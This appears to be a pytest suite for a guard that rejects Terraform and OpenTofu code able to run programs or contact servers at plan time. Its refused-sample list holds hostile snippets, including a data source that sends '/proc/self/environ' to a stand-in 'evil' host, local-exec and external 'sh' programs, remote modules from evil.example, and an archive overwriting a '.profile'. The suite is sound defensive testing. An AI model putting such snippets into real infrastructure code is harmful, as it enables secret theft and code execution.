"""Code that would run a program or reach a server when it is planned is refused, however it is written."""

import json
import re
from pathlib import Path
from typing import Any, Final

import pytest

from gateway.core.settings import AllowedCode
from reconciler.errors import CodeRefused
from reconciler.terraform.code_guard import CodeGuard

AWS = 'terraform {\n  required_providers {\n    aws = {\n      source  = "hashicorp/aws"\n      version = "~> 5"\n    }\n  }\n}\n'
HARMLESS = (
    AWS
    + """
provider "aws" {
  region      = "eu-west-1"
  max_retries = 3
  assume_role {
    role_arn = "arn:aws:iam::123456789012:role/plan"
  }
  default_tags {
    tags = { a = "provisioner" }
  }
}
# data "external" "x" {}
resource "aws_sqs_queue" "a" {
  name   = "a"
  policy = <<-EOT
    a text about external data
  EOT
}
data "aws_caller_identity" "me" {}
data "aws_ip_ranges" "ec2" {
  services = ["ec2"]
}
data "aws_iam_openid_connect_provider" "ci" {
  url = "https://token.example"
}
data "archive_file" "code" {
  type        = "zip"
  source_dir  = "${path.module}/src"
  output_path = "${path.module}/build/code.zip"
}
data "cloudinit_config" "boot" {}
ephemeral "random_password" "p" {
  length = 20
}
resource "random_id" "r" { byte_length = 4 }
resource "terraform_data" "t" {}
module "m" {
  source = "./m"
}
"""
)

REFUSED = {
    "a program as a data source": 'data "external" "x" {\n  program = ["sh"]\n}',
    "a request as a data source": 'data "http" "x" {\n  url = "http://evil"\n}',
    "labels without quotes": "data external x {\n  program = []\n}",
    "a label with escapes": 'data "tls_c\\u0065rtificate" "x" {\n  url = "https://evil"\n}',
    "a request by another provider": 'data "tls_certificate" "x" {\n  url = "https://evil"\n}',
    "a state from anywhere": 'data "terraform_remote_state" "x" {\n  backend = "http"\n}',
    "a data source inside a check": 'check "c" {\n  data "http" "x" {\n    url = "http://evil"\n  }\n}',
    "an ephemeral resource": 'ephemeral "http" "x" {\n}',
    "another provider by its meta-argument": AWS + 'data "aws_x" "x" {\n  provider = http\n}',
    "another provider under a harmless name": 'terraform {\n  required_providers {\n    random = { source = "hashicorp/external" }\n  }\n}',
    "a namesake of the provider": 'terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}',
    "another registry": 'terraform {\n  required_providers {\n    aws = { source = "evil.example/hashicorp/aws" }\n  }\n}',
    "two sources": 'terraform {\n  required_providers {\n    aws = {\n      source = "hashicorp/aws"\n      source = "evil/aws"\n    }\n  }\n}',
    "a provider by an expression": 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/${"aws"}" }\n  }\n}',
    "a provider block alone": 'provider "kubernetes" {\n}',
    "an implied provider": 'resource "evil_thing" "x" {\n}',
    "a local program": 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}',
    "a remote program": 'resource "terraform_data" "x" {\n  provisioner "remote-exec" {\n  }\n}',
    "a copied file": 'resource "aws_instance" "x" {\n  provisioner "file" {\n  }\n}',
    "a program when a resource is removed": 'removed {\n  from = aws_x.y\n  provisioner "local-exec" {\n    when = destroy\n  }\n}',
    "a module of another repository": 'module "m" {\n  source = "git::https://evil.example/m.git"\n}',
    "a module of the registry": 'module "m" {\n  source = "evil/m/aws"\n}',
    "a module over HTTP": 'module "m" {\n  source = "https://evil.example/m.zip"\n}',
    "a module at an absolute path": 'module "m" {\n  source = "/tmp/m"\n}',
    "a module outside the repository": 'module "m" {\n  source = "../../../m"\n}',
    "a module by an expression": 'module "m" {\n  source = "${var.x}/m"\n}',
    "the provider's requests sent elsewhere": 'provider "aws" {\n  endpoints {\n    sts = "http://evil"\n  }\n}',
    "the same, generated": 'provider "aws" {\n  dynamic "endpoints" {\n    for_each = [1]\n    content {\n    }\n  }\n}',
    "through a proxy": 'provider "aws" {\n  http_proxy = "http://evil"\n}',
    "a program for credentials": 'provider "aws" {\n  shared_config_files = ["./aws.config"]\n}',
    "the state sent elsewhere": 'terraform {\n  backend "http" {\n    address = "http://evil"\n  }\n}',
    "the plan run elsewhere": 'terraform {\n  cloud {\n    organization = "evil"\n  }\n}',
    "a bucket elsewhere": 'terraform {\n  backend "s3" {\n    endpoints = { s3 = "http://evil" }\n  }\n}',
    "a program of a newer version": 'data "local_command" "x" {\n  command = "sh"\n}',
    "the same, by another name of its provider": 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/local" }\n  }\n}\ndata "local_command" "x" {\n  provider = aws\n  command  = "sh"\n}',
    "the same, as an action": 'action "local_command" "x" {\n  config {\n    command = "sh"\n  }\n}',
    "a request by AWS's own provider": 'data "aws_ip_ranges" "x" {\n  services = ["ec2"]\n  url      = "http://evil/?${urlencode(file("/proc/self/environ"))}"\n}',
    "a function that runs when it is planned": 'data "aws_lambda_invocation" "x" {\n  function_name = "f"\n  input         = "{}"\n}',
    "the same for a moment": 'ephemeral "aws_lambda_invocation" "x" {\n  function_name = "f"\n  payload       = "{}"\n}',
    "an archive at an absolute path": 'data "archive_file" "x" {\n  type        = "zip"\n  output_path = "/home/sentinel/.profile"\n}',
    "an archive outside of the module": 'data "archive_file" "x" {\n  type        = "zip"\n  output_path = "${path.module}/../../x.zip"\n}',
    "an archive somewhere": 'data "archive_file" "x" {\n  type        = "zip"\n  output_path = "${path.module}/${var.name}"\n}',
    "the lock of the state elsewhere": 'terraform {\n  backend "s3" {\n    dynamodb_endpoint = "http://evil"\n  }\n}',
    "no proof of who answers": 'provider "aws" {\n  insecure = true\n}',
    "an argument of a newer version": 'provider "aws" {\n  some_new_gateway = "http://evil"\n}',
    "another provider's proxy": 'provider "tls" {\n  proxy {\n    url = "http://evil"\n  }\n}',
    "what is not valid HCL": 'data "aws_x" {{{',
    "what our parser takes for a text": 'locals {\n  a = <<EOT\ndata "external" "x" {\nEOT\n}',
}  # fmt: skip


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = tmp_path / "repository" / "infra"
    (root / "m").mkdir(parents=True)
    (root / "m" / "main.tf").write_text("locals {}\n")
    (root.parent / ".git").touch()
    return root


@pytest.fixture
def guard() -> CodeGuard:
    return CodeGuard(providers=frozenset(AllowedCode().providers))


def test_what_stacks_usually_name_is_allowed(root: Path, guard: CodeGuard) -> None:
    (root / "main.tf").write_text(HARMLESS)
    (root / ".ignored.tf").write_text('data "http" "x" {}')
    guard.check(root)


@pytest.mark.parametrize("code", REFUSED.values(), ids=REFUSED.keys())
@pytest.mark.parametrize("name", ["main.tf", "z_override.tf", "m/main.tf"])
def test_it_is_refused_in_every_file_that_is_planned(root: Path, guard: CodeGuard, code: str, name: str) -> None:
    (root / "main.tf").write_text(HARMLESS)
    (root / name).write_text(
        f"{HARMLESS if name == 'main.tf' and code.startswith(('data', 'resource')) else ''}{code}\n"
    )
    if name == "m/main.tf" and "../../../m" in code:
        code = code.replace("../../../m", "../../../../m")
    with pytest.raises(CodeRefused, match=r"main\.tf|z_override\.tf"):
        guard.check(root)


_EXTERNAL: Final[dict[str, Any]] = {"x": {"program": ["id"]}}
_RUN: Final[dict[str, Any]] = {"local-exec": {"command": "id"}}


@pytest.mark.parametrize(
    ("code", "what"),
    [
        ({"data": {"external": _EXTERNAL}}, "data.external"),
        ({"data": [{}, {"external": [_EXTERNAL]}]}, "data.external"),
        ({"check": {"c": {"data": {"external": _EXTERNAL}}}}, "data.external"),
        ({"resource": {"aws_sqs_queue": {"q": {"provisioner": _RUN}}}}, "provisioner.local-exec"),
        ({"resource": {"aws_sqs_queue": {"q": {"provisioner": [{}, _RUN]}}}}, "provisioner.local-exec"),
        ({"resource": [{"aws_sqs_queue": [{"q": [{"provisioner": _RUN}]}]}]}, "provisioner.local-exec"),
        ({"terraform": {"backend": {"http": {"address": "http://x"}}}}, "backend.http"),
        ({"terraform": [{"cloud": {}}]}, "cloud"),
        ({"provider": {"aws": [{"endpoints": [{"sqs": "http://x"}]}]}}, "provider.endpoints"),
        ({"provider": {"aws": {"shared_credentials_files": ["x"]}}}, "provider.shared_credentials_files"),
        ({"terraform": {"required_providers": {"x": {"source": "evil/x"}}}}, "evil/x"),
        ({"resource": {"evil_x": {"a": {}}}}, "hashicorp/evil"),
        ({"module": {"m": {"source": "../../../m"}}}, "module outside of the repository"),
        ({"module": {"m": {"source": "${var.x}"}}}, "module"),
        ({"action": {"x": {}}}, "no kind of block"),
    ],
)
def test_code_in_json_is_held_to_the_same_rules(root: Path, guard: CodeGuard, code: dict[str, Any], what: str) -> None:
    (root / "x.tf.json").write_text(json.dumps({"//": "a comment"} | code))
    with pytest.raises(CodeRefused, match=re.escape(what)):
        guard.check(root)


def test_a_member_that_comes_twice_is_not_missed(root: Path, guard: CodeGuard) -> None:
    (root / "x.tf.json").write_text('{"data": {"external": {"x": {}}}, "data": {"aws_region": {"x": {}}}}')
    with pytest.raises(CodeRefused, match=r"data\.external"):
        guard.check(root)


def test_harmless_code_in_json_is_allowed(root: Path, guard: CodeGuard) -> None:
    (root / "x.tf.json").write_text('{"resource": {"aws_sqs_queue": {"json": {"name": "q"}}}}')
    guard.check(root)


def test_json_that_does_not_parse_is_refused(root: Path, guard: CodeGuard) -> None:
    (root / "x.tf.json").write_text('{"resource": {},}')
    with pytest.raises(CodeRefused, match=r"x\.tf\.json:1: This is not valid JSON"):
        guard.check(root)


@pytest.mark.parametrize("name", ["x.tofu", "x.tofu.json"])
def test_code_that_only_opentofu_reads_is_refused(root: Path, guard: CodeGuard, name: str) -> None:
    (root / name).write_text('data "external" "x" {\n  program = ["id"]\n}\n')
    with pytest.raises(CodeRefused, match=name):
        guard.check(root)


def test_a_link_out_of_the_repository_is_refused(root: Path, guard: CodeGuard, tmp_path: Path) -> None:
    (tmp_path / "out.tf").write_text("locals {}\n")
    (root / "main.tf").symlink_to(tmp_path / "out.tf")
    with pytest.raises(CodeRefused, match="leads out"):
        guard.check(root)


def test_a_directory_that_is_a_link_out_of_the_repository_is_refused(
    root: Path, guard: CodeGuard, tmp_path: Path
) -> None:
    (tmp_path / "outside").mkdir()
    (root / "linked").symlink_to(tmp_path / "outside")
    (root / "main.tf").write_text('module "m" {\n  source = "./linked"\n}\n')
    with pytest.raises(CodeRefused, match="outside of the repository"):
        guard.check(root)


def test_a_downloaded_module_is_checked_like_our_own(root: Path, tmp_path: Path) -> None:
    guard = CodeGuard(providers=frozenset(AllowedCode().providers), modules=frozenset({"good/*"}))
    (root / "main.tf").write_text('module "m" {\n  source = "good/m/aws"\n}\n')
    guard.check(root)
    downloaded = tmp_path / "data" / "modules" / "m"
    downloaded.mkdir(parents=True)
    (downloaded / "main.tf").write_text(REFUSED["a program as a data source"])
    (downloaded.parent / "modules.json").write_text(json.dumps({"Modules": [{"Key": "m", "Dir": str(downloaded)}]}))
    with pytest.raises(CodeRefused, match=r"data\.external"):
        guard.check(root, tmp_path / "data")
    (downloaded.parent / "modules.json").write_text("{")
    with pytest.raises(CodeRefused, match="cannot be read"):
        guard.check(root, tmp_path / "data")


def test_what_the_settings_list_is_allowed(root: Path) -> None:
    names = frozenset({"data.http", "provisioner.local-exec", "provider.endpoints", "backend.gcs"})
    guard = CodeGuard(
        providers=frozenset({"registry.terraform.io/hashicorp/*"}), modules=frozenset({"good/*"}), blocks=names
    )
    (root / "main.tf").write_text(
        'data "http" "x" {\n}\nresource "null_resource" "x" {\n  provisioner "local-exec" {\n  }\n}\n'
        'provider "aws" {\n  endpoints {\n  }\n}\nterraform {\n  backend "gcs" {\n  }\n}\n'
    )
    guard.check(root)
